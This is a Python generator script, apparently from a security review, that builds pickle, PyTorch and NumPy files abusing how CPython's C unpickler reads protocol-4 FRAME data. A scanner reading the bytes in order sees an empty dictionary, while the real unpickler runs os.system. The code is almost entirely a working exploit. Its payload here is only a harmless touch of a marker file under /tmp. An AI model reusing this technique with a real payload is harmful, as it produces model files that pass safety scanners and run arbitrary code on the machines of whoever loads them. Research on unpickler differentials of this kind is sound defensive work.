"""Pickles whose protocol-4 FRAME is read differently by CPython's C unpickler than by a reader
of the bytes in order (adapted from review 37a's frame-straddle, zip-frame-straddle,
npy-frame-straddle and legacy-frame cases).

_pickle.c's load_frame reads a frame with one read() whenever peek() cannot hand it the whole frame
(always on io.BytesIO, which has no peek; on a file from open() when the frame is 8192 bytes or
more). An argument that then runs past the frame's end is read from the file, which stands at the
frame's end: the bytes of the argument inside the frame are dropped. After STOP, the file stands at
the frame's end too, not right after STOP.

Usage: gen_frame.py OUTDIR   (writes review37-frame_*.{pkl,pt,npy})"""
import os, struct, sys, zipfile

out = sys.argv[1] if len(sys.argv) > 1 else "."


def payload(tag):
    return b"0cposix\nsystem\n(S'touch /tmp/r37-pwned-frame-" + tag.encode() + b"'\ntR."


def straddle(tag, k, length, pad):
    """A FRAME ending k bytes into a BINUNICODE of `length` bytes. The C unpickler reads the
    argument from the frame's end: `length` zero bytes, then POP and the payload. A reader in order
    takes the k bytes inside the frame and length-k zeros, then a BINUNICODE swallowing the
    payload: POP, POP, STOP -> {}."""
    p = payload(tag)
    frame = b"}"
    if pad:
        frame += b"B" + struct.pack("<I", pad) + b"\x00" * pad + b"0"   # grow the frame past 8192
    frame += b"X" + struct.pack("<I", length) + b"\x00" * k
    after = b"\x00" * (length - k) + b"X" + struct.pack("<I", len(p)) + p + b"00."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + after


def legacy(tag):
    """Legacy torch.save whose magic-number pickle sits in a FRAME of 9000 bytes running past its
    STOP: torch.load (a path, opened with open()) reads the next pickles from the frame's end."""
    magic = b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
    # what torch reads after the frame: protocol, sys_info, the object (the payload), storage keys
    torch_tail = b"M\xe9\x03." b"}." + payload(tag)[1:] + b"]."
    # what a reader resuming right after STOP sees: protocol, sys_info, an object, and storage keys
    # whose BINBYTES swallows torch_tail
    keys_head = b"\x80\x02]B" + struct.pack("<I", len(torch_tail))
    head = magic + b"." + b"\x80\x02M\xe9\x03." + b"\x80\x02}."
    pad = 9000 - len(head) - len(keys_head) - 9
    obj = b"\x80\x02}B" + struct.pack("<I", pad) + b"\x00" * pad + b"0."   # {} with padding popped
    frame = head + obj + keys_head
    assert len(frame) >= 8192
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + torch_tail + b"0."


def torch_zip(pkl):
    import io
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/version", b"3\n")
        z.writestr("archive/.data/version", b"3\n")
    return b.getvalue()


def npy(pkl):
    hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += b" " * (63 - (10 + len(hdr)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + pkl


files = {
    # pickle.load(open()) / pandas.read_pickle: a 9000-byte frame, read with one read()
    "review37-frame_straddle.pkl": straddle("pkl", 5, 64, 9000),
    # torch.load unpickles data.pkl from io.BytesIO: any frame is read with one read()
    "review37-frame_zip_straddle.pt": torch_zip(straddle("zip", 5, 16, 0)),
    # np.load(allow_pickle=True) unpickles from the open file
    "review37-frame_npy_straddle.npy": npy(straddle("npy", 5, 64, 9000)),
    "review37-frame_legacy.pt": legacy("legacy"),
}
for name, data in files.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    print(name, len(data))
